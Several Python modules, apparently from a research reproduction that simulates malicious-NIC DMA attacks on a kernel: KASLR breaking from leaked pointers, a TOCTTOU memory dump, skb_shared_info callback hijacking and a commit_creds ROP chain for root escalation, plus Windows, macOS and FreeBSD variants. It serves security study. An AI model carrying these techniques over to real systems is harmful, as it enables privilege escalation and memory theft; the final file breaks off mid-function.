from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.core.attacks.payload import build_attack_blob
from repro.core.attacks.surveillance import (REMOTE_IP, surveil_for_kaslr)
from repro.core.attacks.window import open_rx_window_covering
from repro.core.attributes import VulnerabilityAttributes
from repro.errors import AttackFailed
from repro.net.gro import FLAG_PUSH
from repro.net.proto import PROTO_TCP, PROTO_UDP, make_packet
from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

#: buf_size of the GRO aggregate's linear head (public stack config).
GRO_HEAD_BUF_SIZE = 256

_FRAG0_PAGE_OFF = SKB_SHARED_INFO.field("frags[0].page").offset
_FRAG0_OFFSET_OFF = SKB_SHARED_INFO.field("frags[0].page_offset").offset
_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset


@dataclass
class ForwardThinkingReport:
    attributes: VulnerabilityAttributes
    blob_kva: int | None = None
    escalated: bool = False
    stage_log: list[str] = field(default_factory=list)


def _inject_gro_flow(kernel: "Kernel", nic: "Nic", flow_id: int,
                     payloads: list[bytes], *, cpu: int = 0) -> None:
    """Send linear TCP segments; the last one flushes the aggregation."""
    for i, payload in enumerate(payloads):
        flags = FLAG_PUSH if i == len(payloads) - 1 else 0
        packet = make_packet(dst_ip=REMOTE_IP, proto=PROTO_TCP,
                             flags=flags, flow_id=flow_id, dst_port=80,
                             payload=payload)
        if not nic.device_receive(packet, cpu=cpu):
            raise AttackFailed("RX ring starved", stage="gro-flow")
        nic.napi_poll(cpu=cpu)
    kernel.stack.process_backlog()


def _read_gro_frags(nic: "Nic", device: MaliciousDevice, marker: bytes, *,
                    cpu: int = 0, complete: bool = True):
    """Find the forwarded aggregate in the TX stream; read its frags[0].

    Returns (desc, page_ptr, frag_offset) or None. With
    ``complete=False`` the descriptor is left uncompleted (delayed).
    """
    info_off = skb_shared_info_offset(GRO_HEAD_BUF_SIZE)
    for desc, data in nic.device_fetch_tx(cpu=cpu, complete=False):
        if marker not in data:
            nic.device_complete_tx(desc)
            continue
        info_iova = desc.linear_iova + info_off
        page_ptr = device.dma_read_u64(info_iova + _FRAG0_PAGE_OFF)
        frag_offset = int.from_bytes(
            device.dma_read(info_iova + _FRAG0_OFFSET_OFF, 4), "little")
        if complete:
            nic.device_complete_tx(desc)
        return desc, page_ptr, frag_offset
    return None


def run_forward_thinking(kernel: "Kernel", nic: "Nic",
                         device: MaliciousDevice, *,
                         cpu: int = 0) -> ForwardThinkingReport:
    """Execute Forward Thinking against a forwarding victim."""
    attrs = VulnerabilityAttributes()
    report = ForwardThinkingReport(attributes=attrs)
    if not kernel.stack.forwarding:
        report.stage_log.append("victim does not forward; attack N/A")
        return report

    # Stage 1: a probe GRO flow leaks a struct page pointer.
    _inject_gro_flow(kernel, nic, 0x4100,
                     [b"GROPROBE" + bytes([i]) * 64 for i in range(3)],
                     cpu=cpu)
    probe = _read_gro_frags(nic, device, b"GROPROBE", cpu=cpu)
    if probe is None:
        report.stage_log.append("no GRO aggregate observed on TX")
        return report
    _desc, page_ptr, _off = probe
    nic.tx_clean(cpu=cpu)
    device.knowledge.vmemmap_base = \
        device.leak_scanner.recover_vmemmap_base(page_ptr)
    report.stage_log.append(
        f"vmemmap base {device.knowledge.vmemmap_base:#x} from GRO "
        f"frag leak {page_ptr:#x} (Figure 9)")

    # Stage 2: surveillance scan completes the KASLR break.
    if not surveil_for_kaslr(kernel, nic, device, cpu=cpu):
        report.stage_log.append("surveillance failed to break KASLR")
        return report
    report.stage_log.extend(device.knowledge.notes)

    # Stage 3: a second GRO flow carries the blob; its frags reveal the
    # blob's KVA; the aggregate's completion is withheld.
    blob = build_attack_blob(device.knowledge)
    marker = b"FWDBLOB!"
    payloads = [marker + blob, marker + b"\x00" * 64, marker + b"\x01" * 64]
    _inject_gro_flow(kernel, nic, 0x4200, payloads, cpu=cpu)
    hit = _read_gro_frags(nic, device, marker, cpu=cpu, complete=False)
    if hit is None:
        report.stage_log.append("blob aggregate not observed on TX")
        return report
    delayed_desc, page_ptr2, frag_offset2 = hit
    pfn = device.knowledge.pfn_of_struct_page(page_ptr2)
    # frags[0] points at the first member's payload; the blob follows
    # the marker at its start.
    report.blob_kva = device.knowledge.kva_of_pfn(
        pfn, frag_offset2) + len(marker)
    attrs.record_kva(
        report.blob_kva,
        "GRO turned our linear segments into frags; struct page + "
        "offset read from the forwarded aggregate (Figure 9)")
    attrs.record_callback_access(
        "RX skb_shared_info writable through a Figure-7 window")
    report.stage_log.append(
        f"blob KVA {report.blob_kva:#x}; aggregate completion withheld")

    # Stage 4: hijack a fresh RX skb's shared info -> detonate.
    base = skb_shared_info_offset(nic.rx_buf_size)
    window = open_rx_window_covering(
        kernel, nic, device,
        lambda i: make_packet(dst_ip=0x0A00_0001, dst_port=9999,
                              proto=PROTO_UDP, flow_id=0x4300 + i,
                              payload=b"\x00" * 32),
        [(base + _TX_FLAGS_OFF, 1), (base + _DESTRUCTOR_ARG_OFF, 8)],
        cpu=cpu)
    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
    window.write_u64(base + _DESTRUCTOR_ARG_OFF, report.blob_kva)
    attrs.record_window(
        f"Figure-7 path(s) {'+'.join(sorted(window.paths_used))}")
    kernel.stack.process_backlog()
    nic.device_complete_tx(delayed_desc)
    nic.tx_clean(cpu=cpu)
    report.escalated = kernel.executor.creds.is_root
    report.stage_log.append(f"escalated={report.escalated}")
    return report
