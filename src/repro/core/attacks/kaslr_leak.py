"""KASLR compromise by scanning DMA-readable pages (section 2.4).

"To identify this first pointer, malicious devices can scan the pages
mapped for reading, looking for kernel pointers leaked due to sub-page
vulnerability."

The TX path supplies the readable pages: small transmit buffers come
from ``kmalloc``, whose slab pages also hold socket objects (carrying
``&init_net`` -- every network object points at its namespace) and SLUB
freelist pointers (direct-map KVAs of neighbouring free objects). The
page-granular TX mapping exposes the *whole page*, so one echo
round-trip typically leaks both:

* ``init_net`` -> text base (21-bit alignment match), and
* a freelist KVA -> ``page_offset_base`` + PFN (30-bit alignment
  arithmetic).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.kaslr.leak import PointerLeak
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.stack import ECHO_PORT

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel


@dataclass
class LeakHarvest:
    """Everything gathered from readable TX pages."""

    leaks: list[PointerLeak] = field(default_factory=list)
    pages_read: int = 0
    rounds: int = 0


def harvest_tx_leaks(kernel: "Kernel", nic: "Nic",
                     device: MaliciousDevice, *, rounds: int = 3,
                     cpu: int = 0) -> LeakHarvest:
    """Trigger echo traffic and scan every page the TX mappings expose.

    Each round: the device injects a small echo request; the victim's
    stack replies; the device reads the *entire page* behind each TX
    linear mapping (page granularity!), scans it for kernel pointers,
    then releases the completion so the victim stays healthy.
    """
    harvest = LeakHarvest()
    for round_no in range(rounds):
        request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
                              proto=PROTO_UDP, flow_id=0x6000 + round_no,
                              payload=b"leakprobe-%d" % round_no)
        if not device_receive_and_poll(kernel, nic, request, cpu=cpu):
            continue
        for desc, _data in nic.device_fetch_tx(cpu=cpu, complete=False):
            page_iova = desc.linear_iova & ~(PAGE_SIZE - 1)
            page = device.dma_read(page_iova, PAGE_SIZE)
            harvest.leaks.extend(device.leak_scanner.scan(page))
            harvest.pages_read += 1
            device.dma_reads += 0  # dma_read already counted
            nic.device_complete_tx(desc)
        nic.tx_clean(cpu=cpu)
        harvest.rounds += 1
    return harvest


def device_receive_and_poll(kernel: "Kernel", nic: "Nic",
                            wire_bytes: bytes, *, cpu: int = 0) -> bool:
    """Inject one packet and let the victim process it fully."""
    if not nic.device_receive(wire_bytes, cpu=cpu):
        return False
    nic.napi_poll(cpu=cpu)
    kernel.stack.process_backlog()
    return True


def break_kaslr_via_tx(kernel: "Kernel", nic: "Nic",
                       device: MaliciousDevice, *, rounds: int = 3,
                       cpu: int = 0) -> bool:
    """Recover text base and page_offset_base from TX leaks.

    Returns True when both slides are known. The direct-map base uses
    majority voting over all direct-map leaks (section 2.4's 30-bit
    arithmetic; exact for sub-1-GiB physical addresses, which early
    slab pages are).
    """
    harvest = harvest_tx_leaks(kernel, nic, device, rounds=rounds, cpu=cpu)
    device.try_recover_text_base(harvest.leaks)
    votes: Counter[int] = Counter()
    for leak in harvest.leaks:
        if leak.region.name == "direct_map":
            base, _pfn = device.leak_scanner. \
                recover_bases_from_direct_map_leak(leak.value)
            votes[base] += 1
    if votes and device.knowledge.page_offset_base is None:
        base = votes.most_common(1)[0][0]
        device.knowledge.page_offset_base = base
        device.knowledge.notes.append(
            f"page_offset_base {base:#x} from {sum(votes.values())} "
            f"direct-map leaks (30-bit alignment arithmetic)")
    device.try_recover_vmemmap_base(harvest.leaks)
    return (device.knowledge.text_base is not None
            and device.knowledge.page_offset_base is not None)
