"""Full-memory-dump attack via data-pointer TOCTTOU (section 3.1).

"A full memory dump is possible when an attacker can modify data
pointers before they are mapped, causing the driver to map arbitrary
kernel addresses." (This is the Beniamini-style TOCTTOU the related
work describes: the driver trusts a pointer that lives on a
device-writable page.)

The model: a command-queue driver keeps a descriptor page mapped
BIDIRECTIONAL; each descriptor holds a buffer KVA and length that the
*driver* wrote, but the device can overwrite them between the write
(time of check) and the driver's ``dma_map_single`` (time of use). The
attacker swaps in arbitrary kernel addresses, one page at a time, and
reads out whatever the driver then maps -- a full memory dump, no code
injection needed.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.mem.accounting import AllocSite
from repro.mem.phys import PAGE_SIZE

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel

#: descriptor slot layout on the shared control page:
#:   0x00 buffer KVA (trusted by the driver!)   0x08 length
DESC_KVA_OFF = 0
DESC_LEN_OFF = 8
DESC_SIZE = 16


class CommandQueueDriver:
    """A driver with the TOCTTOU bug: it maps whatever pointer is in
    the descriptor at submit time."""

    def __init__(self, kernel: "Kernel",
                 device_name: str = "hba0") -> None:
        self.kernel = kernel
        self.device_name = device_name
        kernel.iommu.attach_device(device_name)
        # the control page, long-lived and BIDIRECTIONAL (the device
        # legitimately writes completions into it)
        self.ctrl_kva = kernel.slab.kmalloc(
            4096, site=AllocSite("hba_alloc_ctrl_page", 0x60, 0x150))
        self.ctrl_iova = kernel.dma.dma_map_single(
            device_name, self.ctrl_kva, 4096, "DMA_BIDIRECTIONAL",
            site=AllocSite("hba_init_queue", 0x88, 0x200))

    def submit_io(self, slot: int, buffer_kva: int, length: int) -> int:
        """Time of check: record the buffer in the descriptor..."""
        paddr = self.kernel.addr_space.paddr_of_kva(
            self.ctrl_kva + slot * DESC_SIZE)
        self.kernel.phys.write_u64(paddr + DESC_KVA_OFF, buffer_kva)
        self.kernel.phys.write_u64(paddr + DESC_LEN_OFF, length)
        return slot

    def kick_io(self, slot: int) -> tuple[int, int]:
        """...time of use: map whatever the descriptor says NOW."""
        paddr = self.kernel.addr_space.paddr_of_kva(
            self.ctrl_kva + slot * DESC_SIZE)
        kva = self.kernel.phys.read_u64(paddr + DESC_KVA_OFF)
        length = self.kernel.phys.read_u64(paddr + DESC_LEN_OFF)
        iova = self.kernel.dma.dma_map_single(
            self.device_name, kva, length, "DMA_TO_DEVICE",
            site=AllocSite("hba_submit", 0xC4, 0x200))
        return iova, length

    def complete_io(self, iova: int, length: int) -> None:
        self.kernel.dma.dma_unmap_single(self.device_name, iova, length,
                                         "DMA_TO_DEVICE")


@dataclass
class MemDumpReport:
    pages_dumped: int = 0
    bytes_dumped: int = 0
    sample_matches: int = 0
    stage_log: list[str] = field(default_factory=list)


def run_memory_dump(kernel: "Kernel", driver: CommandQueueDriver,
                    device: MaliciousDevice, *, start_pfn: int = 64,
                    nr_pages: int = 16) -> MemDumpReport:
    """Dump arbitrary physical pages through the TOCTTOU.

    Needs ``page_offset_base`` (one direct-map leak, section 2.4);
    with it the attacker mints the KVA of any frame it wants dumped.
    """
    report = MemDumpReport()
    know = device.knowledge
    for index in range(nr_pages):
        pfn = start_pfn + index
        target_kva = know.kva_of_pfn(pfn)
        slot = driver.submit_io(index % 64, kernel.slab.kmalloc(
            64, site=AllocSite("hba_scratch")), 64)
        # TOCTTOU: overwrite the descriptor through the control mapping
        # before the driver kicks the I/O.
        base = driver.ctrl_iova + (index % 64) * DESC_SIZE
        device.dma_write_u64(base + DESC_KVA_OFF, target_kva)
        device.dma_write_u64(base + DESC_LEN_OFF, PAGE_SIZE)
        iova, length = driver.kick_io(index % 64)
        data = device.dma_read(iova, length)
        driver.complete_io(iova, length)
        report.pages_dumped += 1
        report.bytes_dumped += len(data)
    report.stage_log.append(
        f"dumped {report.pages_dumped} pages "
        f"({report.bytes_dumped} bytes) of arbitrary kernel memory")
    return report
