"""Applicability to other OSs (section 7).

Three scenario models, each built on the same simulated machine:

* **Windows** -- ``NdisAllocateNetBufferMdlAndData`` "allocates a
  NET_BUFFER structure and data in a single memory buffer, exposing
  the OS to single-step attacks" even under Kernel DMA Protection
  (which isolates *other* allocations but cannot split this one).
* **macOS** -- the ``mbuf`` exposes ``ext_free`` but *blinds* it with
  an XOR cookie: the single-step overwrite fails, yet "ext_free can
  receive only one of two possible values", so a compound attacker
  with KASLR broken recovers the cookie with one XOR.
* **FreeBSD** -- the ``mbuf`` exposes a raw ``ext_free``: the
  Markettos et al. single-step attack works as-is.

Each scenario returns whether the single-step attack and (where
relevant) the compound variant succeed, feeding the E15 comparison.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.core.defenses.blinding import PointerBlinding
from repro.cpu.exec import STOP_RIP
from repro.errors import (ControlFlowViolation, ExecutionFault,
                          NxViolation)
from repro.kaslr.leak import TEXT_LOW_MASK
from repro.mem.accounting import AllocSite

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel

#: mbuf-flavoured layout (shared by the macOS and FreeBSD models):
#:   0x00  m_next        0x08  m_data (points into this mbuf!)
#:   0x10  m_pkthdr[..]  0x48  ext_free (callback; blinded on macOS)
#:   0x50  ext_buf       0x58  data[...]
#: (the pkthdr scratch at 0x10..0x48 is where the pivot's
#: rsp = rdi + 0x10 lands, so the poisoned stack fits before ext_free)
MBUF_M_NEXT = 0x00
MBUF_M_DATA = 0x08
MBUF_EXT_FREE = 0x48
MBUF_DATA_OFFSET = 0x58
MBUF_SIZE = 0x58 + 168

#: NET_BUFFER-flavoured layout (Windows model):
#:   0x00  next_nb       0x08  current_mdl
#:   0x10  scratch[..]   0x48  completion_handler (miniport context)
#:   0x50  data[...]
NB_COMPLETION = 0x48
NB_DATA_OFFSET = 0x50
NB_SIZE = 0x50 + 176


@dataclass
class OsScenarioReport:
    os_name: str
    single_step_escalated: bool = False
    single_step_blocked_reason: str = ""
    compound_escalated: bool | None = None  # None = not applicable
    stage_log: list[str] = field(default_factory=list)


class _MappedStructHost:
    """Common machinery: one metadata+data buffer, DMA-mapped whole."""

    def __init__(self, kernel: "Kernel", device_name: str, *,
                 struct_size: int, callback_offset: int,
                 data_offset: int, self_ptr_offset: int | None,
                 blinding: PointerBlinding | None = None) -> None:
        self.kernel = kernel
        self.device_name = device_name
        self.callback_offset = callback_offset
        self.data_offset = data_offset
        self.blinding = blinding
        kernel.iommu.attach_device(device_name)
        self.kva = kernel.slab.kmalloc(
            struct_size, site=AllocSite("m_getcl", 0x31, 0xE0))
        paddr = kernel.addr_space.paddr_of_kva(self.kva)
        callback = kernel.symbol_address("sock_def_write_space")
        stored = blinding.blind(callback) if blinding else callback
        kernel.phys.write_u64(paddr + callback_offset, stored)
        if self_ptr_offset is not None:
            kernel.phys.write_u64(paddr + self_ptr_offset,
                                  self.kva + data_offset)
        self.iova = kernel.dma.dma_map_single(
            device_name, self.kva, struct_size, "DMA_BIDIRECTIONAL",
            site=AllocSite("bus_dmamap_load", 0x55, 0x1C0))

    def complete(self):
        """The OS completion path: load, (unblind,) indirect-call."""
        paddr = self.kernel.addr_space.paddr_of_kva(self.kva)
        stored = self.kernel.phys.read_u64(paddr + self.callback_offset)
        if self.blinding is not None:
            stored = self.blinding.unblind(stored)
        return self.kernel.executor.invoke_callback(stored, rdi=self.kva)


def _single_step(host: _MappedStructHost, device: MaliciousDevice,
                 report: OsScenarioReport, *,
                 cookie: int | None = None) -> None:
    """Read the page, recover what's recoverable, overwrite, detonate."""
    kernel = host.kernel
    page_iova = host.iova & ~0xFFF
    struct_page_off = (host.iova & 0xFFF)
    page = device.dma_read(page_iova, 4096)

    # KVA leak: m_data/self pointers on the very same page.
    self_ptr = int.from_bytes(
        page[struct_page_off + MBUF_M_DATA:][:8], "little")
    stored_cb = int.from_bytes(
        page[struct_page_off + host.callback_offset:][:8], "little")
    # KASLR: an unblinded callback is a text leak (low-21 match).
    if device.knowledge.text_base is None:
        for name, offset in device.knowledge.symbol_offsets.items():
            if (stored_cb & TEXT_LOW_MASK) == (offset & TEXT_LOW_MASK):
                candidate = stored_cb - offset
                if candidate % (1 << 21) == 0:
                    device.knowledge.text_base = candidate
                    report.stage_log.append(
                        f"text base via leaked &{name}")
                    break
    if device.knowledge.text_base is None:
        report.single_step_blocked_reason = \
            "no text leak (callback blinded)"
        return

    know = device.knowledge
    chain = [know.gadget_kva("pop rdi"), 0,
             know.symbol_kva("prepare_kernel_cred"),
             know.gadget_kva("mov rdi, rax"),
             know.symbol_kva("commit_creds"), STOP_RIP]
    blob = b"".join(q.to_bytes(8, "little") for q in chain)
    # rsp = rdi + pivot_const: plant the chain at struct+pivot_const.
    device.dma_write(page_iova + struct_page_off + know.pivot_const,
                     blob)
    pivot = know.gadget_kva("pivot")
    stored = pivot ^ cookie if cookie is not None else pivot
    device.dma_write_u64(
        page_iova + struct_page_off + host.callback_offset, stored)
    try:
        host.complete()
    except (NxViolation, ControlFlowViolation, ExecutionFault) as exc:
        report.single_step_blocked_reason = f"kernel oops: {exc}"


def run_windows_scenario(kernel: "Kernel",
                         device: MaliciousDevice) -> OsScenarioReport:
    """Kernel DMA Protection is on, but NdisAllocateNetBufferMdlAndData
    still co-locates NET_BUFFER metadata with the data."""
    report = OsScenarioReport("Windows (Kernel DMA Protection)")
    host = _MappedStructHost(
        kernel, device.device_name, struct_size=NB_SIZE,
        callback_offset=NB_COMPLETION, data_offset=NB_DATA_OFFSET,
        self_ptr_offset=0x08)
    _single_step(host, device, report)
    report.single_step_escalated = kernel.executor.creds.is_root
    return report


def run_freebsd_scenario(kernel: "Kernel",
                         device: MaliciousDevice) -> OsScenarioReport:
    """The raw mbuf ext_free: Markettos et al.'s attack verbatim."""
    report = OsScenarioReport("FreeBSD (raw mbuf ext_free)")
    host = _MappedStructHost(
        kernel, device.device_name, struct_size=MBUF_SIZE,
        callback_offset=MBUF_EXT_FREE, data_offset=MBUF_DATA_OFFSET,
        self_ptr_offset=MBUF_M_DATA)
    _single_step(host, device, report)
    report.single_step_escalated = kernel.executor.creds.is_root
    return report


def run_macos_scenario(kernel: "Kernel", device: MaliciousDevice, *,
                       kaslr_already_broken: bool = True
                       ) -> OsScenarioReport:
    """Blinded ext_free: single-step fails; the compound variant
    recovers the cookie with one XOR once KASLR is compromised
    ("as demonstrated in [45]")."""
    report = OsScenarioReport("macOS (blinded mbuf ext_free)")
    blinding = PointerBlinding(kernel.rng.child("xnu-cookie"))
    host = _MappedStructHost(
        kernel, device.device_name, struct_size=MBUF_SIZE,
        callback_offset=MBUF_EXT_FREE, data_offset=MBUF_DATA_OFFSET,
        self_ptr_offset=MBUF_M_DATA, blinding=blinding)

    # single step: the blinded field leaks no text pointer, and even a
    # raw gadget overwrite gets XOR-scrambled by the unblinding.
    _single_step(host, device, report)
    report.single_step_escalated = kernel.executor.creds.is_root
    if not report.single_step_escalated and \
            not report.single_step_blocked_reason:
        report.single_step_blocked_reason = "callback blinded"

    # compound: KASLR assumed broken (Thunderclap did this for macOS);
    # ext_free can hold only one legitimate value -> cookie = one XOR.
    if kaslr_already_broken and not report.single_step_escalated:
        device.knowledge.text_base = kernel.addr_space.text_base
        paddr = kernel.addr_space.paddr_of_kva(host.kva)
        stored = kernel.phys.read_u64(paddr + MBUF_EXT_FREE)
        cookie = stored ^ kernel.symbol_address("sock_def_write_space")
        report.stage_log.append(
            f"cookie {cookie:#018x} revealed by a single XOR")
        _single_step(host, device, report, cookie=cookie)
        report.compound_escalated = kernel.executor.creds.is_root
    return report
