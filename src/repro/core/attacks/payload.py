"""ROP/JOP payload construction (sections 2.4, 6).

The payload the device plants inside a mapped buffer is a fake
``ubuf_info`` immediately followed by a poisoned ROP stack:

====== ======================= =========================================
offset content                 role
====== ======================= =========================================
0      JOP pivot gadget KVA    ``ubuf_info.callback`` -- the kernel
                               indirect-calls this with ``%rdi`` =
                               &ubuf_info (Figure 4 step (d))
8      0                       ``ubuf_info.ctx`` (unused)
16     pop rdi; ret            ROP[0] -- the pivot sets
                               ``rsp = rdi + 0x10``, landing here
24     0                       -> rdi = NULL
32     prepare_kernel_cred     returns root creds token in rax
40     mov rdi, rax; ret
48     commit_creds            installs root credentials
56     STOP sentinel           clean return, no crash
====== ======================= =========================================

Everything is *data* -- the NX bit never trips because execution only
ever fetches from kernel text (the gadgets); this is exactly why the
paper's attacks survive DEP (section 2.4, "Subverting NX-BIT").
"""

from __future__ import annotations

import struct

from repro.core.attacks.device import AttackerKnowledge
from repro.cpu.exec import STOP_RIP
from repro.errors import AttackFailed

#: The ROP chain starts at ubuf+pivot_const; our build's pivot uses 0x10.
ROP_CHAIN_OFFSET = 0x10

#: Total payload footprint in the buffer.
UBUF_PAYLOAD_SIZE = ROP_CHAIN_OFFSET + 6 * 8


def build_rop_chain(knowledge: AttackerKnowledge) -> list[int]:
    """The privilege-escalation chain: commit_creds(prepare_kernel_cred(0))."""
    return [
        knowledge.gadget_kva("pop rdi"),
        0,
        knowledge.symbol_kva("prepare_kernel_cred"),
        knowledge.gadget_kva("mov rdi, rax"),
        knowledge.symbol_kva("commit_creds"),
        STOP_RIP,
    ]


def build_attack_blob(knowledge: AttackerKnowledge) -> bytes:
    """Fake ubuf_info + poisoned stack, ready to DMA into a buffer.

    Requires the text base (attribute work done by the compound steps);
    the blob is position-independent except for the gadget/symbol KVAs,
    so the same bytes can be sprayed into many buffers (RingFlood).

    If the attacker recovered a pointer-blinding cookie (section 7's
    macOS bypass), the stored callback word is pre-XORed so the
    kernel's unblinding lands on the pivot gadget.
    """
    if not knowledge.kaslr_broken:
        raise AttackFailed("cannot build payload before KASLR is broken",
                           stage="payload")
    if knowledge.pivot_const != ROP_CHAIN_OFFSET:
        raise AttackFailed(
            f"pivot constant {knowledge.pivot_const:#x} does not match "
            f"payload layout {ROP_CHAIN_OFFSET:#x}", stage="payload")
    callback = knowledge.gadget_kva("pivot")
    if knowledge.blinding_cookie is not None:
        callback ^= knowledge.blinding_cookie
    words = [callback, 0] + build_rop_chain(knowledge)
    return struct.pack(f"<{len(words)}Q", *words)


def blob_callback_value(blob: bytes) -> int:
    """The ubuf_info.callback field of a built blob (first qword)."""
    return struct.unpack_from("<Q", blob, 0)[0]
