"""The Poisoned TX compound attack (section 5.4, Figure 8).

"When deducing a valid PFN is not an option (e.g., due to a low memory
footprint), another way of acquiring a valid KVA is needed. In this
next attack, the KVA is acquired by spoofing a malicious transmitted
(TX) packet. The attacker gains the needed KVA by *reading* it from
the skb_shared_info of the sent packet."

Stages:

1. Probe echoes break KASLR (init_net -> text base, freelist KVAs ->
   page_offset_base), enabling payload construction.
2. The device coerces the victim into echoing the attack blob (fake
   ubuf_info + poisoned ROP stack) as a >linear-threshold payload, so
   the echo response carries it in a page fragment. The response's TX
   mapping exposes the whole linear page for READ -- including the
   ``skb_shared_info`` whose ``frags[0]`` holds the *struct page
   pointer* and offset of the blob's page. 30-bit arithmetic turns
   that into the blob's exact KVA. No physical-setup knowledge needed.
3. The device *delays the TX completion* so the blob's buffer is not
   freed ("the NIC spoofs an RX packet and delays the completion
   notification of the TX packets so the malicious buffer is not
   released prematurely").
4. An RX packet supplies a writable ``skb_shared_info``; through a
   Figure-7 window the device sets its zerocopy flag and points
   ``destructor_arg`` at the blob. Freeing that skb detonates the
   chain. The TX completion is released afterwards (staying inside
   the driver's TX timeout).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro import trace
from repro.core.attacks.device import MaliciousDevice
from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.payload import build_attack_blob
from repro.core.attacks.window import open_rx_window_covering
from repro.core.attributes import VulnerabilityAttributes
from repro.errors import AttackFailed
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
from repro.net.stack import ECHO_PORT, TX_LINEAR_MAX
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

#: buf_size of the linear head the echo path allocates for large
#: payloads -- public kernel knowledge (repro.net.stack.send).
ECHO_LINEAR_BUF_SIZE = 256

_FRAG0_PAGE_OFF = SKB_SHARED_INFO.field("frags[0].page").offset
_FRAG0_OFFSET_OFF = SKB_SHARED_INFO.field("frags[0].page_offset").offset
_FRAG0_SIZE_OFF = SKB_SHARED_INFO.field("frags[0].size").offset
_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset


@dataclass
class PoisonedTxReport:
    attributes: VulnerabilityAttributes
    ubuf_kva: int | None = None
    escalated: bool = False
    stage_log: list[str] = field(default_factory=list)


def run_poisoned_tx(kernel: "Kernel", nic: "Nic",
                    device: MaliciousDevice, *,
                    cpu: int = 0) -> PoisonedTxReport:
    """Execute Poisoned TX against a live victim."""
    attrs = VulnerabilityAttributes()
    report = PoisonedTxReport(attributes=attrs)

    # Stage 1: KASLR break (needed to *construct* the blob at all).
    with trace.span("attack", "poisoned-tx:kaslr-break"):
        broke = break_kaslr_via_tx(kernel, nic, device, cpu=cpu)
    if not broke:
        report.stage_log.append("KASLR break failed; aborting")
        return report
    report.stage_log.extend(device.knowledge.notes)

    # Stage 2: coerce the echo service into sending our blob back.
    blob = build_attack_blob(device.knowledge)
    marker = b"POISONED-TX!"
    payload = blob + marker
    payload += b"\x00" * (TX_LINEAR_MAX + 1 + 64 - len(payload))
    request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
                          proto=PROTO_UDP, flow_id=0x5001, payload=payload)
    if not nic.device_receive(request, cpu=cpu):
        raise AttackFailed("RX ring starved", stage="echo")
    nic.napi_poll(cpu=cpu)
    kernel.stack.process_backlog()

    # Stage 3: fetch the TX response but DELAY its completion, then
    # read the shared info off the linear page to learn the blob's KVA.
    shared_info_off = skb_shared_info_offset(ECHO_LINEAR_BUF_SIZE)
    delayed = []
    for desc, data in nic.device_fetch_tx(cpu=cpu, complete=False):
        if marker not in data:
            nic.device_complete_tx(desc)  # unrelated traffic
            continue
        delayed.append(desc)
        info_iova = desc.linear_iova + shared_info_off
        page_ptr = device.dma_read_u64(info_iova + _FRAG0_PAGE_OFF)
        frag_offset = int.from_bytes(
            device.dma_read(info_iova + _FRAG0_OFFSET_OFF, 4), "little")
        if device.knowledge.vmemmap_base is None:
            device.knowledge.vmemmap_base = \
                device.leak_scanner.recover_vmemmap_base(page_ptr)
        pfn = device.knowledge.pfn_of_struct_page(page_ptr)
        report.ubuf_kva = device.knowledge.kva_of_pfn(pfn, frag_offset)
        attrs.record_kva(
            report.ubuf_kva,
            "struct page pointer + offset read from the echoed TX "
            "skb_shared_info (Figure 8); 30-bit vmemmap arithmetic")
        attrs.record_callback_access(
            "RX skb_shared_info writable through a Figure-7 window")
        report.stage_log.append(
            f"blob located: struct page {page_ptr:#x} -> PFN {pfn:#x} "
            f"offset {frag_offset:#x} -> KVA {report.ubuf_kva:#x}; "
            f"TX completion withheld")
        if trace.enabled("attack"):
            trace.emit("attack", "poisoned-tx:blob-located",
                       pfn=pfn, ubuf_kva=report.ubuf_kva,
                       frag_offset=frag_offset)
        break
    if report.ubuf_kva is None:
        report.stage_log.append("echoed blob not found in TX stream")
        return report

    # Stage 4: spoof an RX packet and hijack ITS shared info to point
    # at the delayed blob. Retry slots until the window covers the
    # shared-info fields (strict mode needs favourable geometry).
    base = skb_shared_info_offset(nic.rx_buf_size)
    window = open_rx_window_covering(
        kernel, nic, device,
        lambda i: make_packet(dst_ip=0x0A00_0001, dst_port=9999,
                              proto=PROTO_UDP, flow_id=0x5002 + i,
                              payload=b"\x00" * 32),
        [(base + _TX_FLAGS_OFF, 1), (base + _DESTRUCTOR_ARG_OFF, 8)],
        cpu=cpu)
    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
    window.write_u64(base + _DESTRUCTOR_ARG_OFF, report.ubuf_kva)
    attrs.record_window(
        f"Figure-7 path(s) {'+'.join(sorted(window.paths_used))}")

    # Detonation, then release the TX completion (within the timeout).
    kernel.stack.process_backlog()
    for desc in delayed:
        nic.device_complete_tx(desc)
    nic.tx_clean(cpu=cpu)
    report.escalated = kernel.executor.creds.is_root
    if trace.enabled("attack"):
